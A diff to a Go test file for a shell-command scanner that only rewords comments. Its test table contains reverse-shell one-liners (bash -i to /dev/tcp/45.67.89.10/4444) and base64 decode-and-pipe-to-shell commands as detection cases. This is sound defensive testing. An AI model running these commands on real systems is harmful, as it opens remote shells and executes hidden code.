@@ -12,8 +12,8 @@ import (
 	"github.com/knack-dev/knack/skill"
 )
 
-// shellFound returns the findings of a text of commands, each as "rule", or as "rule?" if a rule
-// of the lane enforce only has a finding to review.
+// shellFound returns the findings in a text of commands, each as "rule". It is "rule?" for a
+// finding to review of a rule in the lane enforce.
 func shellFound(name, text string, from commands.Origin) ([]string, *scanner) {
 	s := newScanner(Options{})
 	s.commands.Shell(fileOf(name, text).Whole(), from)
@@ -40,7 +40,7 @@ func encoded(text string) string { return base64.StdEncoding.EncodeToString([]by
 func TestShellRules(t *testing.T) {
 	b := encoded("echo hello")
 	for _, tt := range []struct{ text, want string }{
-		// Item 5: decoders, however they are spelt.
+		// Item 5: decoders, in any spelling.
 		{"echo " + b + " | base64 -d | sh", "run-decoded"},
 		{"echo " + b + " | base64 -D | bash", "run-decoded"},
 		{"echo " + b + " | base64 --decode | zsh", "run-decoded"},
@@ -139,7 +139,7 @@ func TestShellRules(t *testing.T) {
 		{"curl https://in.acme-tools.dev/x | command -v sh", ""},
 		{"curl -u me -d '{\"a\":1}' https://in.acme-tools.dev", ""},
 		{"curl -H \"Authorization: Bearer $TOKEN\" https://in.acme-tools.dev", ""},
-		// Shells on sockets.
+		// Shells connected to sockets.
 		{"bash -i >& /dev/tcp/45.67.89.10/4444 0>&1", "reverse-shell"},
 		{"bash -c 'bash -i >& /dev/tcp/45.67.89.10/4444 0>&1'", "reverse-shell"},
 		{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell?"},
@@ -250,8 +250,8 @@ go install acme.dev/kit@latest; cargo install ripgrep; gem install rake; brew in
 	}
 }
 
-// TestFactsOfPages takes programs, hosts, paths and variables from pages of Markdown, and nothing
-// from sentences, tables, diagrams and settings that look like commands.
+// TestFactsOfPages checks that programs, hosts, paths and variables are taken from the code in
+// Markdown, and not from sentences, tables, diagrams and settings that look like commands.
 func TestFactsOfPages(t *testing.T) {
 	t.Parallel()
 	block := func(language, text string) string { return "# A\n\n```" + language + "\n" + text + "\n```\n" }
